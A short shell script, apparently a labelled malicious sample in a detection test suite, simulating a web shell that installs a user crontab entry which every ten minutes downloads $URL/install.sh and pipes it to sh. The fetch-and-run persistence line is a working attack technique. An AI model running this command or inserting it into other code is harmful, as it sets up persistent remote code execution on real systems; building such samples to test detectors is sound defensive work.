#!/bin/sh
# malicious: a web shell installs a user crontab that re-downloads its payload ((crontab -l; echo ...) | crontab -)
. "$(dirname "$0")/../../lib.sh"
$B/httpd "( $B/crontab -l 2>/dev/null; echo '*/10 * * * * curl -s $URL/install.sh | sh' ) | $B/crontab -"
